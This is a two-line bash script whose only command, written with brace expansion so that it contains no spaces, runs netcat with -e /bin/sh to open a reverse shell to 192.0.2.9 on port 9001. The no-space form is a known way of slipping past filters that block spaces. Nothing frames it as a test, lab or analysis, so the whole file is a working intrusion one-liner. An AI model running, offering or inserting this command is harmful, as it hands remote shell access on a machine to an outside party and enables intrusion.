#!/bin/bash
{nc,-e,/bin/sh,192.0.2.9,9001}
